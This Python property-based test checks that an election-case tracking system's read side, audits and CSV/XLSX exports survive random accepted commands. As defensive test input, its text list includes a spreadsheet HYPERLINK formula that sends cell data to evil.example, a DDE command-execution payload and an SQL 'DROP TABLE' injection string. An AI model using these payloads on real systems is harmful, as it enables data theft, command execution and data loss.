"""Property: no accepted command can wedge the read side. Hypothesis draws sequences of commands that the write
side accepts — reports and findings at any time from the earliest date accepted to now, in any UTC offset places
use, with arbitrary Unicode and formula-like text in every free-text field, then legal steps by allowed actors at
any later time, corrections where they are legal — plus, now and then, a report or a step dated anywhere from
year 1 to 2018, as versions before the lower bound recorded them. After each sequence, on SQLite and PostgreSQL:
`verify` passes, `tick` runs, every audit runs, every table exports in every format (CSV and XLSX with nothing a
spreadsheet would evaluate), and a rebuild equals the read models caught up step by step."""

from __future__ import annotations

import csv
import random
from contextlib import nullcontext
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from entrypoints.bootstrap import open_jejak
from projections import audits
from projections.export import FORMATS, TABLES, export
from projections.integrity import verify
from projections.readside import ReadSide
from tests.test_dates_within_reason import older_version
from workflow import rules
from workflow.definitions import ESCALATION_TARGETS, DEPARTURE_REASONS, get_era
from workflow.errors import JejakError

PLACES = [dict(agency="pemkab-bima", province="prov-ntb", regency="kab-bima"),
          dict(agency="pemkot-kediri", province="prov-jatim", regency="kota-kediri"),
          dict(agency="kementerian-pupr", province="prov-dki")]
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"x")', "+62 812", "-1", "@SUM(A1)", "#N/A",
            "=cmd|' /C calc'!A0", "’", "😀" * 50, "e" + "\u0301" * 150, "\u200d\u2063", "ⓐ" * 200, "\U000e0041",
            "%s; DROP TABLE case_event; --"]
# any text the fields accept (no control characters: those are refused, which this property is not about)
text = st.one_of(st.sampled_from(FORMULAS),
                 st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=40)
                 .filter(str.strip))
CLOSING = {"cancel", "record_departure", "dismiss", "reject_registration", "find_not_proven", "reject"}
# UTC offsets from -12:00 to +14:00 in quarter hours, and a few zones
zones = st.one_of(st.integers(-48, 56).map(lambda q: timezone(timedelta(minutes=15 * q))),
                  st.sampled_from([ZoneInfo("Asia/Jakarta"), ZoneInfo("Asia/Jayapura"), timezone.utc]))
AUDITS = {"responsiveness": {}, "funnel": {"by": "province"}, "stage_durations": {"include_open": True},
          "stage_stints": {}, "overdue": {}, "backdating": {"threshold_days": 0},
          "portfolio": {"dates": ["2020-10-01", "2024-10-01"]}}

command = st.fixed_dictionaries({
    "kind": st.sampled_from(["report", "step", "step", "step", "step"]),
    "legacy": st.integers(0, 5).map(lambda n: n == 0),  # as an older version: no lower bound
    "when": st.floats(0, 1), "zone": zones, "seed": st.integers(0, 2 ** 32),
    "place": st.sampled_from(PLACES), "finding": st.booleans(),
    "name": text, "note": st.one_of(st.none(), text), "external_ref": st.one_of(st.none(), text),
    "description": st.one_of(st.none(), text), "decree_number": text,
    "actor_id": st.one_of(st.none(), st.sampled_from(FORMULAS[:7]),  # an officer's id: printable text
                          st.text(st.characters(whitelist_categories=("L", "N", "P", "S")), min_size=1, max_size=30)),
})


def _moment(low: datetime, high: datetime, fraction: float, zone) -> datetime:
    return (low + (high - low) * fraction).astimezone(timezone.utc).astimezone(zone)


def _legacy_moment(fraction: float, rng: random.Random) -> datetime:
    """A time as an older version took it from `--at`: year 1 to 2018, local (Jakarta) or UTC."""
    year = 1 + int(fraction * 2017)
    zone = rng.choice([ZoneInfo("Asia/Jakarta"), timezone.utc])
    return datetime(year, rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), tzinfo=zone)


def apply(app, monkeypatch, cases: list, c: dict) -> None:
    """Run one drawn command; a refusal is a JejakError and is ignored (the property is about what is accepted)."""
    rng = random.Random(c["seed"])
    now = app.clock()
    context = older_version(monkeypatch) if c["legacy"] else nullcontext()
    try:
        with context:
            if c["kind"] == "report" or not cases:
                place = c["place"]
                actor = f"bawaslu:{place.get('regency') or place['province']}" if c["finding"] else "reporter"
                if c["finding"] and c["actor_id"]:
                    actor += f"@{c['actor_id']}"
                at = (_legacy_moment(c["when"], rng) if c["legacy"] else
                      _moment(app.settings.earliest_moment, now, c["when"], c["zone"]))
                fields = dict(name=c["name"], position_group="pelaksana", category="social_media",
                              election=f"pilkada-{rng.choice([2020, 2024])}", description=c["description"],
                              external_ref=c["external_ref"], **place,
                              **({} if c["finding"] else {"reporter_name": c["name"]}))
                cases.append(app.report(actor, occurred_at=at, note=c["note"],
                                        **{k: v for k, v in fields.items() if v is not None}))
                return
            case = app.get_case(rng.choice(cases))
            legal = app.triggers(case.id)
            if not legal:
                return
            open_ones = [t for t in legal if t not in CLOSING]  # mostly onwards, to reach every stage
            trigger = rng.choice(open_ones if open_ones and rng.random() < 0.85 else legal)
            if "correct_date" in legal and rng.random() < 0.5:  # repair what an older version let in
                trigger = "correct_date"
            era = get_era(case.era)
            role = rng.choice(sorted(rules.roles_for(era, case.state, trigger)))
            actor = {"bawaslu": f"bawaslu:{case.region['regency'] or case.region['province']}",
                     "ppk": f"ppk:{case.ppk}"}.get(role, role)
            if c["actor_id"] and role != "reporter":
                actor += f"@{c['actor_id']}"
            last = max(case.last_occurred_at, app.settings.earliest_moment)
            at = _legacy_moment(c["when"], rng) if c["legacy"] else _moment(last, now, c["when"], c["zone"])
            fields = _fields(app, case, trigger, era, at, c, rng)
            if fields is None:
                return
            app.advance(case.id, trigger, actor, occurred_at=at, note=c["note"] or "drawn", **fields)
    except JejakError:
        pass
    except OverflowError:  # an older version could not store such a time either (it failed the same way)
        assert c["legacy"]


def _fields(app, case, trigger, era, at, c, rng) -> dict | None:
    if trigger == "recommend":
        track = rng.choice(["ethics", "discipline"])
        return {"track": track, "sanction": rng.choice(sorted(era.sanctions(track)))}
    if trigger == "impose_sanction":
        day = _moment(app.settings.earliest_moment, at, rng.random(), timezone.utc).date().isoformat()
        return {"sanction": rng.choice(sorted(era.all_sanctions)), "decree_number": c["decree_number"],
                "decree_date": rng.choice([None, day])}
    if trigger == "escalate":
        return {"to": rng.choice(ESCALATION_TARGETS)}
    if trigger == "record_departure":
        return {"reason": rng.choice(DEPARTURE_REASONS)}
    if trigger == "correct_date":  # the latest event stating a time out of range, to a time that fits
        earliest = app.settings.earliest_moment
        versions = [v for v, (_, stated, _) in enumerate(case.history, start=1) if stated < earliest]
        version = versions[-1]
        _, _, recorded = case.history[version - 1]
        low = max([earliest] + [t for _, t, _ in case.history[:version - 1]])
        high = min([recorded] + [t for _, t, _ in case.history[version:]])
        if low > high:
            return None
        return {"version": version, "to": _moment(low, high, rng.random(), c["zone"])}
    return {}


def check_reads(app, tmp_path) -> None:
    read_side = ReadSide(app)
    read_side.catch_up()
    report = verify(app)
    assert report.ok, str(report)
    app.tick()
    for name, options in AUDITS.items():
        getattr(audits, name)(app, **options)
    for table in TABLES:
        for fmt in FORMATS:
            export(app, table, fmt, tmp_path / f"{table}.{fmt}")
    with open(tmp_path / "case_event.csv", newline="", encoding="utf-8") as f:
        assert not [v for row in csv.reader(f) for v in row if v.startswith(("=", "+", "@", "\t", "\r"))
                    or (v.startswith("-") and not v.lstrip("-").replace(".", "", 1).isdigit())]
    sheet = openpyxl.load_workbook(tmp_path / "case_event.xlsx").worksheets[0]
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")]
    live = read_side.snapshot()
    read_side.rebuild()
    assert read_side.snapshot(catch_up=False) == live


def test_no_accepted_command_wedges_the_read_side(db_url, tmp_path, monkeypatch):
    with open_jejak(db_url) as app:
        cases: list = []  # the store's cases, from every example: later steps take them further

        @settings(max_examples=5, deadline=None, database=None,
                  suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
        @given(commands=st.lists(command, min_size=8, max_size=16))
        def sequence(commands):
            for c in commands:
                apply(app, monkeypatch, cases, c)
            check_reads(app, tmp_path)

        sequence()
